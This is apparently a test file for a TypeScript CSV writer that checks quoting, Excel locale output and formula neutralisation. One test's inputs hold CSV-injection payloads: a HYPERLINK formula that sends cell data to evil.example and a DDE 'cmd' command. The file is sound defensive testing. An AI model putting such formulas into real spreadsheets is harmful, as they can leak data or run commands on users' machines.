import { Readable, Writable } from 'node:stream';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { CsvParser } from '../import/csv-reader.ts';
import { writeCsv, type CsvCell, type CsvFormat } from './csv-writer.ts';

async function csv(rows: Record<string, CsvCell>[], format: CsvFormat = { excel: false }): Promise<{ text: string; bytes: Buffer; count: number }> {
  const chunks: Buffer[] = [];
  const out = new Writable({
    write(chunk: Buffer, _enc, done) {
      chunks.push(Buffer.from(chunk));
      done();
    },
  });
  const count = await writeCsv(out, Readable.from(rows), format);
  const bytes = Buffer.concat(chunks);
  return { text: bytes.toString('utf8'), bytes, count };
}

describe('writeCsv', () => {
  it('writes a header from the keys, RFC 4180 quoting and CRLF, and counts the rows', async () => {
    const { text, count } = await csv([{ id: 'C1', name: 'Virtanen, Matti "Masa"', callableNow: true }, { id: 'C2', name: 'Rivi 1\nRivi 2', callableNow: false }]);
    expect(text).toBe('id,name,callableNow\r\nC1,"Virtanen, Matti ""Masa""",true\r\nC2,"Rivi 1\nRivi 2",false\r\n');
    expect(count).toBe(2);
  });

  it('neutralises cells that a spreadsheet would run as formulas: a leading quote, and the cell quoted', async () => {
    const starters = ['=HYPERLINK("http://evil.example/?d="&C2,"Soita")', '+SUM(1+1)', '-2+3+cmd|\' /C calc\'!A0', '@SUM(1+1)', '\tTAB', '\rCR', '＝1+1'];
    const { text } = await csv(starters.map((name) => ({ name })));
    expect(text.split('\r\n').slice(1, 6)).toEqual([
      `"'=HYPERLINK(""http://evil.example/?d=""&C2,""Soita"")"`,
      `"'+SUM(1+1)"`,
      `"'-2+3+cmd|' /C calc'!A0"`,
      `"'@SUM(1+1)"`,
      `"'\tTAB"`,
    ]);
    expect(text).toContain(`"'\rCR"`);
    expect(text).toContain(`"'＝1+1"`);
  });

  it('writes an E.164 phone number with the leading quote too: one rule for every cell', async () => {
    expect((await csv([{ phone: '+358401234567' }])).text).toBe(`phone\r\n"'+358401234567"\r\n`);
  });

  it('leaves ordinary text alone, including a quote, dash or at sign inside it', async () => {
    expect((await csv([{ name: "Anna-Liisa O'Brien", email: 'a@example.fi' }])).text).toBe("name,email\r\nAnna-Liisa O'Brien,a@example.fi\r\n");
  });

  it('writes for Excel in a Finnish locale: a UTF-8 byte-order mark, semicolons and CRLF', async () => {
    const { bytes, text } = await csv([{ name: 'Äijälä; Päivi', city: 'Åbo' }], { excel: true });
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(text).toBe('\uFEFFname;city\r\n"Äijälä; Päivi";Åbo\r\n');
  });

  it('writes every value so that it reads back as written, with a quote in front exactly when it would start a formula', async () => {
    const cell = fc.string({ unit: fc.constantFrom('a', 'ä', ' ', ',', ';', '"', "'", '\n', '\r', '\t', '=', '+', '-', '@') });
    await fc.assert(
      fc.asyncProperty(fc.array(cell, { minLength: 1, maxLength: 20 }), fc.boolean(), async (values, excel) => {
        const { text } = await csv(values.map((v) => ({ v })), { excel });
        const parser = new CsvParser(excel ? ';' : ',');
        const read = [...parser.push(text), ...parser.end()].slice(1).map((r) => r.fields[0]);
        // A row of one empty cell is a blank line, which a reader skips.
        const expected = values.filter((v) => v !== '').map((v) => (/^[=+\-@\t\r]/.test(v) ? `'${v}` : v));
        expect(read).toEqual(expected);
      }),
    );
  });
});
